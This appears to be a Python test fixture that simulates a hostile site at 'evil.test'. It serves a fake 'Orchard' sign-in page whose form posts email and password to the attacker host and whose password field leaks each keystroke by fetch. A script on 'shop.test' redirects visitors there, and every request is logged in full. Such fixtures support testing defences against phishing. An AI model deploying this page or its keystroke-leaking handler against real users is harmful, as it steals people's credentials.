"""A hostile site that remembers whatever it is sent, and a page elsewhere that hands visitors over to it."""

from dataclasses import dataclass, field

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

HOST = "evil.test"
#: A host of a good name whose page leads to the hostile one.
MOVING_HOST = "shop.test"

_SIGN_IN = """<!doctype html><title>Sign in - Orchard</title><h1>Sign in</h1>
<form method="post" action="http://evil.test/caught">
  <label>Email <input name="email"></label>
  <label>Password <input name="password" type="password" oninput="fetch('/heard?' + this.value)"></label>
  <button>Sign in</button>
</form>
"""
_MOVES_AWAY = """<script>setTimeout(() => location.assign("http://evil.test/login"), 300)</script>"""


@dataclass
class HostileSite:
    received: list[bytes] = field(default_factory=list)  #: everything it was ever sent

    def app(self) -> Starlette:
        methods = ["GET", "POST", "PUT"]
        return Starlette(routes=[Route("/{path:path}", self._answer, methods=methods)])

    async def _answer(self, request: Request) -> Response:
        headers = repr(request.headers.items()).encode()
        self.received.append(b"\n".join([str(request.url).encode(), headers, await request.body()]))
        moves = request.url.hostname == MOVING_HOST
        return HTMLResponse(_SIGN_IN + _MOVES_AWAY if moves else _SIGN_IN)
